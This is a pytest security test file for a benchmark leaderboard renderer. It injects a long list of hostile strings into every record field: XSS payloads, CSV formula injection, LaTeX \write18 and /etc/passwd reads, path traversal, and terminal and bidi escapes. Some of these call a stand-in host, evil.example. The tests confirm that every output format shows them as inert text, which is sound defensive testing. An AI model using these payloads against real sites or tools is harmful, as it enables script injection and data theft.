"""A board on which every name, note and reason is an attack: whatever renders it shows text, and nothing runs."""

import csv
import io
import json
import re
import shutil
from html.parser import HTMLParser
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from fedbench.leaderboard import index, load_board, render, terminal, text
from fedbench.leaderboard.charts import Chart, javascript, theme
from fedbench.leaderboard.charts.chart import identifier, named
from fedbench.leaderboard.markdown import markdown
from fedbench.leaderboard.page import ASSETS, asset, slug
from fedbench.leaderboard.tables import as_csv, as_json, as_latex
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console

from fedbench.schema import Environment, ModelInfo, SeedIds, Tuning

HACKED = "document.documentElement.dataset.hacked=1"
ATTACKS = (
    f"<script>{HACKED}</script>",
    f"</script><script>{HACKED}</script>",
    f"<img src=x onerror={HACKED}>",
    f'"><svg onload={HACKED}>',
    f"' onmouseover='{HACKED}' x='",
    f'" autofocus onfocus="{HACKED}" tabindex="1',
    f'<iframe srcdoc="<script>parent.{HACKED}</script>"></iframe>',
    f"<details open ontoggle={HACKED}>",
    f"javascript:{HACKED}",
    f'<a href="javascript:{HACKED}">win</a>',
    "<!--<script>",
    "--></title></style></textarea></select></table></svg><base href=https://evil.example/>",
    "<style>body{display:none}</style>",
    "x}body{background:url(https://evil.example/x)}",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example><form action=https://evil.example><button autofocus>",
    "&lt;script&gt;&#60;img&#62;&NewLine;",
    "[link](https://evil.example) ![image](https://evil.example/x.png) <https://evil.example>",
    "https://evil.example www.evil.example someone@evil.example",
    "| cell | **bold** _slanted_ ~~struck~~ `code` ``more`` |\\|",
    "```\nfence\n```\n\n# heading\n\n- list\n\n> quote\n\n---\n\n[x]: https://evil.example\n\n    indented",
    "1. one",
    "- one",
    "$\\href{javascript:x}{x}$ $$x$$ \\(x\\)",
    "{{ 7*7 }}{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>",
    f"datum['method'] || event.view.{HACKED}",
    "signal(width); datum.x = {signal: 'width'}",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1;=1+1",
    "-1+1\t=1+1",
    "\t=1+1",
    "\\input{/etc/passwd}\\immediate\\write18{id} % # & _ ^^5c ~ \\\\[1em] {",
    "[bold red]rich[/] [link=https://evil.example]x[/link] [/]",
    "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07x\x1b]8;;\x07\x9b2J\r\b\x00",
    "\u202egnp.exe\u202c\u200b\u200d\ufeff\u2066x\u2069\U000e0041",
    "e" + "\u0301" * 300,
    "..",
    "../../../etc/passwd",
    "C:\\Windows\\x",
    "CON",
    "index",
    "__proto__",
    "constructor",
    "x" * 200,
    "x" * 100_000,
)
TASKS = (ATTACKS[1].replace("/", "\u2215"), ATTACKS[3])
"""Names of folders, in which no slash can be."""


def spaceless(value):
    return "".join(value.split())


def is_folder(name):
    """Return whether a record can stand in a folder of that name, here and as a name of the laboratory's."""
    return not re.search(r"[/\\\x00\[]|^\.+$", name) and len(name.encode()) < 200


def attacked(lab):
    """Return a results folder: a row for each attack, which also stands wherever else its record has a text."""
    for n, attack in enumerate(ATTACKS):
        folder = attack if is_folder(attack) else f"m{n}"
        for task in TASKS[: 2 if n < 3 else 1]:
            cell = lab.done(
                task,
                folder,
                1,
                0.3 + n % 5 / 10,
                family=("global", "personalised", "reference")[n % 3],
                models=("global", "local", "personal"),
                identity=identity(task, folder, attack),
                cards={
                    "task": f"{attack}\n\n{attack}\n\n    {attack}\n\nx `{attack}`",
                    "method": f"{attack}\n\n{attack}",
                    "source": f"{attack}\n\nReferences\n----------\n.. [1] {attack}",
                },
                classes=(attack, f"{attack} too"),
                model=ModelInfo(name=attack, parameters=1000, bytes=4000, flops=2000),
                seed_ids=SeedIds(partition=attack, init=attack, schedule=attack, order=attack),
                environment=environment(attack),
                started=attack,
                fedbench=attack,
            )
            tuning = Tuning(task=attack, metric=attack, budget=20, seed=0, digest=attack)
            lab.cells[-1] = cell.model_copy(
                update={"label": attack, "mechanism": attack, "hyperparameters": {attack: attack}, "tuning": tuning}
            )
        lab.failed(TASKS[1], f"failed{n}", 1, attack)
        lab.plan(TASKS[1], f"skipped{n}", 1, skipped=attack)
    lab.done(TASKS[0], "fedavg", 1, 0.5, models=("global", "local", "personal"))
    return lab.finish(title=" ".join(ATTACKS[:20]))


def identity(task, method, attack):
    data = {"shape": [attack, attack], "counts": {attack: 3}, "license": attack, "sites": [attack, attack]}
    partitioner = {"type": attack, attack: 1}
    protocol = {"rounds": attack, "participation": 1, "local_epochs": attack, "lr": attack, attack: attack}
    task = {"name": task, "version": attack, "source": attack, "data": data, "evaluated_on": attack}
    return {
        "task": task | {"partitioner": partitioner, "protocol": protocol},
        "method": {"name": method, "version": attack, "title": attack, "url": attack, "bibtex": attack},
        "track": "faithful",
    }


def environment(attack):
    texts = dict.fromkeys(("python", "platform", "processor", "device", "commit"), attack)
    return Environment(**texts, packages={attack: attack}, cores=2, threads=1)


@pytest.fixture(scope="module")
def results(tmp_path_factory, make_lab):
    return attacked(make_lab(tmp_path_factory.mktemp("hostile") / "results"))


@pytest.fixture(scope="module")
def board(results):
    return load_board(results, "demo", drawn=True)


@pytest.fixture(scope="module")
def out(results, tmp_path_factory):
    """Return the reports folder of the attacked board; pictures are drawn only where a browser looks at them."""
    folder = tmp_path_factory.mktemp("site")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Chart, "svg", lambda self: "<svg/>\n")
        render(results, "demo", folder / "demo")
    index(folder)
    return folder


def test_every_attack_came_as_far_as_the_board(board):
    rows = {row.label for task in board.tasks for row in task.all_rows if row.done}
    assert rows >= set(ATTACKS)
    assert {cell.state for cell in board.cells} == {"done", "failed", "skipped"}
    assert sum(cell.state != "done" for cell in board.cells) == 2 * len(ATTACKS)


# ---- Pages -------------------------------------------------------------------------------------------------


class Tags(HTMLParser):
    """What a page is made of: each tag with the names of its attributes, every address, all text and all data."""

    def __init__(self, page):
        super().__init__()
        self.kinds, self.links, self.words, self.data, self.within = set(), [], [], [], None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.kinds |= {(tag, name) for name, _ in attributes} | {(tag, "")}
        self.links += [value for name, value in attributes if name in ("href", "src", "srcset", "action", "data")]
        self.within = dict(attributes).get("type", "javascript") if tag == "script" else tag

    def handle_comment(self, data):
        self.kinds.add(("comment", ""))

    def handle_data(self, data):
        if self.within == "application/json":
            self.data.append(data)
            self.within = None
        else:
            self.words.append(data)


def pages(folder):
    return {path.relative_to(folder).as_posix(): path.read_text("utf-8") for path in sorted(folder.rglob("*.html"))}


@pytest.mark.reliability
def test_pages_are_made_of_what_a_harmless_board_is_made_of(out, shown, tmp_path, monkeypatch, tally):
    monkeypatch.setattr(Chart, "svg", lambda self: "<svg/>\n")
    render(shown, "demo", tmp_path / "demo")
    index(tmp_path)
    harmless = set().union(*(Tags(page).kinds for page in pages(tmp_path).values()))
    for name, page in pages(out).items():
        found = Tags(page)
        # No version that is a number and no task with facts that are numbers: nothing but these is new or missing.
        assert found.kinds - harmless <= {("div", "class")}, name
        assert not [link for link in found.links if urlsplit(link).scheme or urlsplit(link).netloc], name
        for data in found.data:
            assert not set(data) & set("<>&")
            json.loads(data)
    tally("hostile texts", len(ATTACKS))


@pytest.mark.reliability
def test_every_attack_is_shown_as_text(out, tally):
    board_page = spaceless("".join(Tags(pages(out)["demo/index.html"]).words))
    everything = spaceless("".join("".join(Tags(page).words) for page in pages(out / "demo").values()))
    for attack in ATTACKS:
        shown = spaceless(text.printable(attack))
        assert shown in board_page, attack[:80]
        assert everything.count(shown) >= 10, attack[:80]
    tally("hostile texts", len(ATTACKS))


def test_no_file_of_the_site_holds_a_character_that_hides_or_turns(out):
    hidden = {char for attack in ATTACKS for char in attack if char not in "\n\t" and not char.isprintable()}
    assert len(hidden) > 10
    for path in out.rglob("*"):
        if path.is_file() and path.name != "vega.js":
            assert not hidden & set(path.read_text(encoding="utf-8")), path


def test_no_script_holds_a_word_of_a_record(out):
    themes = json.dumps({"light": theme(False), "dark": theme(True)}, separators=(",", ":"), sort_keys=True)
    known = {f"assets/{name}": asset(name) for name in ASSETS}
    known["assets/vega.js"] = f"{javascript()}site.themes = {themes};\n"
    for folder in (out, out / "demo"):
        for path in folder.glob("assets/*"):
            assert path.read_text(encoding="utf-8") == known[path.relative_to(folder).as_posix()]
    assert {path.parent.name for path in out.rglob("*.js")} == {"assets"}


def test_long_texts_are_cut(lab, tmp_path, monkeypatch):
    monkeypatch.setattr(Chart, "svg", lambda self: "<svg/>\n")
    long = "long text " * 100_000
    for n, name in enumerate(("a", "b")):
        cell = lab.done("alpha", name, 1, 0.5 + n / 10, cards=dict.fromkeys(("task", "method", "source"), long))
        lab.cells[-1] = cell.model_copy(update={"label": long + name, "mechanism": long})
    lab.failed("alpha", "c", 1, long)
    lab.plan("alpha", "d", 1, skipped=long)
    files = render(lab.finish(title=long), "demo", tmp_path / "out")
    sizes = {path.name: path.stat().st_size for path in files if path.name != "vega.js"}
    assert max(sizes.values()) < 1_500_000
    assert "[cut: 1,000,000 characters]" in files[0].read_text(encoding="utf-8")


# ---- Names of files ----------------------------------------------------------------------------------------


@pytest.mark.reliability
def test_every_file_stands_in_the_folder_under_a_plain_name(out, tally):
    root = out.resolve()
    names = [path.relative_to(out).as_posix() for path in out.rglob("*") if path.is_file()]
    assert all(root in (out / name).resolve().parents for name in names)
    assert all(re.fullmatch(r"[a-zA-Z0-9._/-]{1,200}", name) and ".." not in name for name in names)
    # One page for each method and task: none took another's.
    methods = set(filter(is_folder, ATTACKS))
    assert len(list((out / "demo" / "methods").iterdir())) == 3 * len(ATTACKS) + 1
    assert {f"demo/methods/{slug(name)}.html" for name in methods} <= set(names)
    assert len(list((out / "demo" / "tasks").iterdir())) == len(TASKS)
    tally("hostile texts", len(methods) + len(TASKS))


@given(st.lists(st.one_of(st.text(max_size=40), st.sampled_from(ATTACKS[:-1])), min_size=2, max_size=6, unique=True))
def test_two_names_never_share_a_file(names):
    names = list(dict.fromkeys([*names, *map(slug, names)]))  # what stands for a name is a name as well
    slugs = [slug(name) for name in names]
    assert len({found.casefold() for found in slugs}) == len(names)
    assert all(re.fullmatch(r"[a-z0-9_][a-z0-9._-]{0,60}", found) and found.strip(".") == found for found in slugs)
    assert not {"con", "nul", "index"} & {found.partition(".")[0] for found in slugs}
    parts = list(dict.fromkeys([*names, *map(identifier, names)]))
    pairs = [(one, other) for one in parts for other in parts]
    assert len({identifier(*pair) for pair in pairs}) == len(pairs)
    assert all(re.fullmatch(r"[a-z0-9_-]{1,160}", identifier(*pair)) for pair in pairs)


def test_a_name_cannot_take_the_place_of_another_that_is_not_plain():
    assert slug("../Evil") != slug(slug("../Evil"))
    assert identifier("forgetting", "a_b", "c") != identifier("forgetting", "a", "b_c")
    assert identifier("forgetting", "a-b", "c") != identifier("forgetting", "a", "b-c")


# ---- Markdown, LaTeX, CSV, JSON, the terminal, pictures ----------------------------------------------------


@pytest.mark.reliability
def test_markdown_is_headings_lists_tables_and_text(board, out, tally):
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    for source, links in ((markdown(board), 0), ((out / "index.md").read_text(encoding="utf-8"), 1)):
        tokens = reader.parse(source)
        blocks = {token.type.removesuffix("_open").removesuffix("_close") for token in tokens}
        assert blocks <= {
            "heading", "paragraph", "bullet_list", "list_item", "blockquote", "table", "thead", "tbody", "tr", "th",
            "td", "inline",
        }  # fmt: skip
        inside = [child for token in tokens if token.type == "inline" for child in token.children]
        assert {token.type for token in inside} <= {
            "text", "strong_open", "strong_close", "softbreak", *(("link_open", "link_close") if links else ()),
        }  # fmt: skip
        assert [token.attrs["href"] for token in inside if token.type == "link_open"] == ["demo/leaderboard.md"] * links
        # What some readers make of plain text: addresses, formulas and templates.
        assert not re.search(r"(?<!\\)://|www\.\w|\w@\w|(?<!\\)\$|(?<!\\)\{", source)
    shown = spaceless("".join(token.content for token in inside_of(reader, markdown(board))))
    for attack in ATTACKS:
        assert spaceless(text.printable(attack)) in shown, attack[:80]
    tally("hostile texts", len(ATTACKS))


def inside_of(reader, source):
    return [child for token in reader.parse(source) if token.type == "inline" for child in token.children]


COMMANDS = {
    "begin", "end", "centering", "caption", "toprule", "midrule", "bottomrule", "cmidrule", "multicolumn", "shortstack",
    "textbf", "underline", "mathbf", "scriptsize", "pm", "textbackslash", "textasciitilde", "textasciicircum",
    "textasciigrave", "textless", "textgreater", "textbar",
    "\\", "{", "}", "$", "&", "#", "%", "_", ",",
}  # fmt: skip


@pytest.mark.reliability
def test_latex_runs_no_command_of_a_name(board, tally):
    lines = [line for line in as_latex(board).splitlines() if not line.startswith("% ")]
    depth, ends = 0, set()
    for line in lines:
        assert set(re.findall(r"\\([a-zA-Z]+|.)", line)) <= COMMANDS, line
        plain = re.sub(r"\\([a-zA-Z]+|.)", "", line)  # what is left of signs is not escaped
        assert not set(plain) & set('#%_^~<>|"`'), line
        depth += plain.count("{") - plain.count("}")
        assert depth >= 0
        assert plain.count("$") % 2 == 0
        if line.endswith("\\\\") and "multicolumn" not in line:
            ends.add(plain.count("&"))
    assert depth == 0
    assert len(ends) == 1  # every row has the columns of the table
    assert (
        len([line for line in lines if line.endswith("\\\\")])
        == len({row.label for task in board.tasks for row in task.all_rows}) + 2
    )
    tally("hostile texts", len(ATTACKS))


@pytest.mark.reliability
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_a_spreadsheet_finds_no_formula_and_every_number(board, delimiter, tally):
    shown = as_csv(board)
    for row in csv.reader(io.StringIO(shown), delimiter=delimiter):
        assert not [value for value in row if delimiter == ";" and value.lstrip().startswith(tuple("=+-@"))]
    found = list(csv.DictReader(io.StringIO(shown)))
    texts = {"value", "seed", "tuned"} ^ set(found[0])
    assert not [row[name] for row in found for name in texts if row[name].lstrip().startswith(tuple("=+-@\t\r"))]
    assert {float(row["value"]) for row in found if row["metric"] == "bwt" and row["value"]} == {-0.125}
    tally("hostile texts", len(ATTACKS))


def test_json_is_ascii_and_exact(board):
    shown = as_json(board)
    assert shown.isascii()
    assert {row["method"] for row in json.loads(shown)["rows"]} >= set(ATTACKS)


@pytest.mark.reliability
@pytest.mark.parametrize("width", [80, 200])
def test_the_terminal_is_told_nothing_but_colours(board, width, tally):
    stream = io.StringIO()
    terminal(board, Console(file=stream, width=width, force_terminal=True, color_system="standard"))
    plain = re.sub(r"\x1b\[[0-9;]*m", "", stream.getvalue())
    assert plain != stream.getvalue()
    assert not [char for char in plain if not char.isprintable() and char != "\n"]
    assert "[bold red]rich[/]" in spaceless(plain) or "[boldred]rich[/]" in spaceless(plain)  # markup is text
    tally("hostile texts", len(ATTACKS))


def test_a_picture_is_a_drawing_and_nothing_else():
    for attack in ATTACKS:
        spec = {"data": {"values": [{"a": named(attack)}]}, "mark": "text"}
        spec["encoding"] = {"text": {"field": "a"}, "y": {"field": "a", "type": "nominal"}}
        drawn = Chart(attack, attack, attack, spec)
        assert re.fullmatch(r"[a-z0-9_-]{1,250}", drawn.name)
        root = ElementTree.fromstring(drawn.svg(width=300))
        tags = {element.tag.removeprefix("{http://www.w3.org/2000/svg}") for element in root.iter()}
        assert tags <= {"svg", "g", "style", "path", "text", "rect", "defs", "clipPath"}
        names = {name for element in root.iter() for name in element.attrib}
        assert not [name for name in names if name.startswith(("on", "{")) or "href" in name or name == "style"]
        (style,) = [element.text for element in root.iter() if element.tag.endswith("style")]
        assert re.fullmatch(r'@media \(prefers-color-scheme:dark\)\{(\[(fill|stroke)="#\w+"\]\{\2:#\w+\})*\}', style)


# ---- In the browser ----------------------------------------------------------------------------------------

WATCH = """
window.complaints = [];
document.addEventListener("securitypolicyviolation", (event) => complaints.push(event.violatedDirective));
"""


@pytest.fixture(scope="module")
def drawn(results, tmp_path_factory):
    """Return the reports folder of the attacked board, with its pictures."""
    folder = tmp_path_factory.mktemp("drawn")
    render(results, "demo", folder / "demo")
    index(folder)
    return folder


@pytest.fixture(scope="module")
def chromium():
    from playwright import sync_api as playwright

    with playwright.sync_playwright() as start:
        browser = start.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox", "--headless"])
        yield browser
        browser.close()


@pytest.fixture
def visit(chromium):
    """Return a page that remembers what it was asked for, what it asked for, and what it complained about."""
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(WATCH)
    page = context.new_page()
    page.asked, page.said, page.failed = [], [], []
    page.on("console", lambda message: page.said.append(message.text))
    page.on("pageerror", lambda error: page.said.append(str(error)))
    page.on("dialog", lambda dialog: (page.said.append("dialog"), dialog.dismiss()))
    page.on("request", lambda request: page.asked.append(request.url))
    page.on("requestfailed", lambda request: page.failed.append((request.url, request.failure)))
    page.on("popup", lambda popup: page.said.append("popup"))
    yield page
    context.close()


ELEMENTS = """() => [...document.querySelectorAll("*")].flatMap((e) => [
  e.localName, ...[...e.attributes].map((a) => a.name).filter((n) => n.startsWith("on") || n === "srcdoc"),
  ...(e.localName === "style" ? ["STYLE"] : []), ...(e.shadowRoot ? ["SHADOW"] : [])])"""


@pytest.mark.long
@pytest.mark.browser
@pytest.mark.reliability
def test_nothing_runs_on_any_page_and_nothing_leaves(visit, drawn, tally):
    from playwright.sync_api import expect

    names = sorted(path.relative_to(drawn).as_posix() for path in drawn.rglob("*.html"))
    assert len(names) > 3 * len(ATTACKS)
    forbidden = {"iframe", "object", "embed", "base", "style", "audio", "video", "foreignObject", "animate", "SHADOW"}
    tips = []
    for name in names:
        visit.goto((drawn / name).as_uri())
        for choice in visit.locator("select[name=task]").all():
            choice.select_option("")
        # Every chart comes into view, and takes the place of its picture.
        for drawing in visit.locator(".drawing[data-chart]").all():
            drawing.scroll_into_view_if_needed()
        # Playwright's own wait_for_function evaluates a text, which the policy forbids.
        expect(visit.locator(".drawing:not(:has(.drawn svg))")).to_have_count(0, timeout=30_000)
        for drawing in visit.locator(".drawn").all():
            for point in drawing.locator(".mark-symbol path").all()[:9:3]:
                point.hover(force=True)
                tips += visit.locator("#vg-tooltip-element.visible").all_inner_texts()
        found = set(visit.evaluate(ELEMENTS))
        assert not found & forbidden, name
        assert not [kind for kind in found if kind.startswith("on") or kind == "srcdoc"], name
        assert visit.evaluate("document.documentElement.dataset.hacked") is None, name
        assert visit.evaluate("complaints") == [], name
        assert visit.url.startswith(drawn.as_uri())
    assert len(tips) > 20
    assert any("<script>" in tip for tip in tips)
    assert visit.said == []
    root = drawn.as_uri()
    assert [url for url in visit.asked if not url.startswith((f"{root}/", "data:"))] == []
    tally("hostile texts", len(ATTACKS) * len(names))


@pytest.mark.long
@pytest.mark.browser
@pytest.mark.reliability
def test_the_policy_forbids_what_no_text_could_bring_about(visit, drawn, tally):
    injected = {
        "script-src-elem": f"<script>{HACKED}</script>",
        "script-src-attr": f"<img src=assets/icon.svg onload={HACKED}><details open ontoggle={HACKED}></details>",
        "script-src": "<p id=late></p>",
        "style-src-elem": "<style>body{display:none}</style>",
        "style-src-attr": '<p style="color:red">x</p>',
        "img-src": "<img src=https://evil.example/x.png>",
        "frame-src": f'<iframe src="data:text/html,<script>parent.{HACKED}</script>"></iframe>',
        "object-src": "<object data=https://evil.example/x></object>",
        "font-src": "<p></p>",
        "base-uri": "<base href=https://evil.example/>",
    }
    run = {
        "script-src": f"setTimeout('{HACKED}')",
        "font-src": "document.fonts.add(new FontFace('x', 'url(https://evil.example)')); document.fonts.load('9px x')",
    }
    page = (drawn / "demo" / "index.html").read_text(encoding="utf-8")
    for directive, markup in injected.items():
        copy = drawn / "demo" / "copy.html"
        head = directive == "base-uri"
        copy.write_text(page.replace("<title>" if head else "</main>", markup + ("<title>" if head else "</main>"), 1))
        visit.goto(copy.as_uri())
        if directive in run:
            visit.evaluate(f"() => {{ {run[directive]} }}")
        complaints = visit.evaluate(
            "async () => { while (!complaints.length) await PAUSE; return complaints }".replace(
                "PAUSE", "new Promise((go) => setTimeout(go, 20))"
            )
        )
        assert directive in complaints, directive
        assert visit.evaluate("document.documentElement.dataset.hacked") is None, directive
        assert visit.evaluate("getComputedStyle(document.body).display") == "block"
    # What a script that did run could do: send something, or bring in another.
    visit.goto((drawn / "demo" / "index.html").as_uri())
    for way in ("fetch('https://evil.example/')", "fetch('leaderboard.md')", "import('https://evil.example/x.js')"):
        assert visit.evaluate(f"() => {way}.then(() => 'came through', () => 'refused')") == "refused"
    tried = "try { tell(eval('1')) } catch (error) { tell(error.name) }"
    later = f"() => new Promise((tell) => setTimeout(() => {{ {tried} }}))"
    assert visit.evaluate(later) == "EvalError"
    assert len(visit.failed) == 3  # the others were not even asked for
    assert {failure for url, failure in visit.failed if url.startswith("https:")} == {"csp"}
    copy.unlink()
    tally("hostile texts", len(injected) + 4)
